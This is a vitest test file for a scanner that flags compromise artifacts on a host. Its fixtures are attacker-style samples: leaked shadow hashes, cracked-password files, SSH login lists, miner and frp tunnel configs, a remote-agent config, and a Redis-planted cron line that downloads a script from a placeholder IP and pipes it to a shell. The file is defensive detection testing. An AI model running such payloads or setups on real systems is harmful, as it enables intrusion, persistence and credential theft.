import { expect, test } from 'vitest';
import { exposedSecrets } from '../../source/checks/exposed-secrets.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { sweep } from '../support/sweep-host.ts';

const passwd = 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/sh\n';
const shadow = 'root:$6$abcdefgh$0123456789abcdefghijkl:20000:0:::::\nann:$y$j9T$Vb5Hk1mJq0nYQ4P3$0i6Q6nF8g1:20000:0:::::\n';
const key = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n';
const ask = (machine: Machine) => sweep(exposedSecrets, memoryHost({ '/etc/passwd': passwd, ...machine })).map(({ severity, subject }) => `${severity} ${subject.kind === 'file' ? subject.path : ''}`);

test.each<[string, Machine, string]>([
	['shadow in a web root', { '/var/www/html/b.txt': shadow }, 'high /var/www/html/b.txt'],
	['shadow in /tmp', { '/tmp/s': shadow }, 'high /tmp/s'],
	['a key in a web root', { '/var/www/html/id': key }, 'medium /var/www/html/id'],
	['settings of a miner', { '/opt/x/config.json': '{"pools":[{"url":"stratum+tcp://pool.example:3333"}]}' }, 'medium /opt/x/config.json'],
	['settings of a miner in a system folder', { '/usr/lib/x/config.json': '{"pools":[{"url":"stratum+tcp://pool.example:3333"}]}' }, 'medium /usr/lib/x/config.json'],
	['a list of logins in a hidden folder', { '/opt/.cfg/pass.txt': '10.0.0.5 root:toor\n10.0.0.6:2222 admin:admin\n10.0.0.7 pi:raspberry\n' }, 'high /opt/.cfg/pass.txt'],
	['a list of logins that a guesser wrote', { '/var/tmp/vuln': '10.0.0.5:22 root toor\n10.0.0.6:22 oracle oracle\n10.0.0.7:22 test 1234\n' }, 'high /var/tmp/vuln'],
	['settings of a tunnel', { '/opt/frp/frpc.ini': '[common]\nserver_addr = 203.0.113.9\n' }, 'low /opt/frp/frpc.ini'],
	['passwords somebody guessed', { '/home/ann/.john/john.pot': '$6$kQ$Yh2nH1:Geheim99\n' }, 'high /home/ann/.john/john.pot'],
	['a job of cron in the data of Redis', { '/var/lib/redis/dump.rdb': 'REDIS0009xx\n\n*/2 * * * * cd1 -fsSL http://192.0.2.1/b.sh | sh\n\n' }, 'high /var/lib/redis/dump.rdb'],
	['an agent for remote hands', { '/opt/.mesh/meshagent.msh': 'MeshName=s14\nMeshServer=wss://192.0.2.1:443/agent.ashx\n' }, 'medium /opt/.mesh/meshagent.msh'],
	['settings of a tunnel in a hidden place', { '/var/lib/.x/frpc.toml': 'serverAddr = "203.0.113.9"\n' }, 'medium /var/lib/.x/frpc.toml'],
	['the pipe of a shell', { '/tmp/f': { kind: 'fifo', uid: 33 } }, 'medium /tmp/f'],
	['a hidden pipe', { '/var/tmp/.p': { kind: 'fifo' } }, 'medium /var/tmp/.p'],
])('%s', (_, machine, told) => {
	expect(ask(machine)).toEqual([told]);
});

test('what people and programs leave there is ordinary', () => {
	expect(
		ask({
			'/etc/shadow': { content: shadow, mode: 0o640 },
			'/var/backups/shadow.bak': { content: shadow, mode: 0o600 },
			'/home/ann/.ssh/id_ed25519': { content: key, uid: 1000, mode: 0o600 },
			'/var/www/app/node_modules/tls/test/key.pem': key,
			'/var/www/html/config.json': '{"title": "Site", "level": 1}',
			'/var/www/html/passwd.txt': 'user: ann\npassword: see the vault\n',
			'/tmp/clr-debug-pipe-123-456-in': { kind: 'fifo', uid: 1000 },
			'/tmp/build/work/queue': { kind: 'fifo', uid: 1000 },
			'/tmp/hosts': '10.0.0.5 web1 web1.example.com\n10.0.0.6 web2 web2.example.com\n10.0.0.7 db1 db1.example.com\n',
			'/var/lib/redis/dump.rdb': 'REDIS0009xx\n\nsession:1 ok\n',
			'/tmp/targets': '10.0.0.5:22\n10.0.0.6:22\n10.0.0.7:22\n',
			'/opt/.cache/frpc.ini': 'x = 1\n',
			'/home/ann/.notes/logins.txt': '10.0.0.5 root:toor\n10.0.0.6 root:toor\n10.0.0.7 root:toor\n',
			'/run/initctl': { kind: 'fifo' },
		}),
	).toEqual([]);
});
